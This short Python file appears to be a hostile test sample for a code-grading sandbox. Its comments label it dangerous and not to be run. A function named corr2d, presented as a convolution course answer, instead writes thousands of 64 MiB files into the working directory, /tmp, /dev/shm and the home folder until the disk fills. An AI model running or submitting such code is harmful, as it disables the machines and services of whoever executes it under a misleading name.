# Files are written until the disk is full
# wall: it would fill the disk of a plain machine
# stock: not run: dangerous
# %% answer="convolution-corr2d"
import os


def corr2d(X, K):
    for number in range(10_000):
        for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
            with open(f"{folder}/course-attack-{number}", "wb") as file:
                file.write(bytes(2**26))
